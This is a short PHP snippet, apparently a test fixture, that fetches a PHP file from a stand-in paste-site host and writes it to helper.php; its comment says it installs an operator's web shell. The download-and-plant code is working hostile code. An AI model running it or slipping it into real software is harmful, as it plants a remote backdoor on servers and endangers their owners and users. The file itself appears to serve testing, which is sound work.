<?php
// a loader that installs the operator's shell from a paste site, the download written inside
// a double-quoted string (written for the tests, never run)
$body = file_get_contents("https://paste.example.net/raw/Xk3vQ9aT.php");
file_put_contents('helper.php', "$body");
echo 'done';
